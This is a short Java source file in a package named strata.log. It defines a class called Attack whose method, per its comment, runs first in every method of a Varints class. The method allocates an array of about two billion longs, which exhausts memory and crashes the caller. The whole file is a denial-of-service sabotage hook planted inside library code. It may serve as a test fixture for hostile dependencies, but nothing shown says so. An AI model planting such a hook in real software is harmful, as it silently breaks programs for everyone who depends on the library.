package strata.log;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        long[] all = new long[Integer.MAX_VALUE];
        all[0] = 1;
    }
}
